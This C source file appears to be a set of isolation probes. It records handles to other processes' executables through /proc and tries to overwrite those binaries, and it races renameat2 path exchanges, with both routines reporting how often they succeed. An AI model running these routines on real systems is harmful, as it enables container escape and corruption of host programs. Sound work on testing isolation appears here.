/* Attacks that need many tries. */
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define KEPT 512

static int kept[KEPT];
static int count;

/* Keeps a handle on the program of every process that is not ours, for the time when nobody runs it any more. */
static void collect(const char *own) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
        char path[300], target[512] = "";
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || count == KEPT)
            continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        if (readlink(path, target, sizeof target - 1) > 0 && strcmp(target, own) != 0 &&
            strncmp(target, "/bin/", 5) != 0)
            kept[count++] = fd;
        else
            close(fd);
    }
    if (processes != NULL)
        closedir(processes);
}

/* Tries to write to each program that was seen. */
static long overwrite(const char *text) {
    long written = 0;
    for (int i = 0; i < count; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            written += write(fd, text, strlen(text)) > 0;
            close(fd);
        }
    }
    return written;
}

int attack_programs(int seconds, const char *text) {
    char own[512] = "";
    time_t end = time(NULL) + seconds;
    long written = 0;
    if (readlink("/proc/self/exe", own, sizeof own - 1) < 0)
        return 1;
    while (time(NULL) < end) {
        collect(own);
        written += overwrite(text);
        if (count == KEPT)
            break;
    }
    sleep(1);
    written += overwrite(text);
    tell_number("steal.seen", count);
    tell_number("steal.written", written);
    fflush(stdout);
    return 0;
}

static volatile sig_atomic_t enough;

static void stop(int number) {
    (void)number;
    enough = 1;
}

/* Until the time is up, or until it is told to stop; says how often it swapped. */
int attack_by_exchange(int seconds, const char *one, const char *other) {
    time_t end = time(NULL) + seconds;
    long rounds = 0;
    signal(SIGTERM, stop);
    while (time(NULL) < end && !enough)
        for (int i = 0; i < 1000; i++)
            rounds += syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2) == 0;
    tell_number("swap.rounds", rounds);
    fflush(stdout);
    return 0;
}
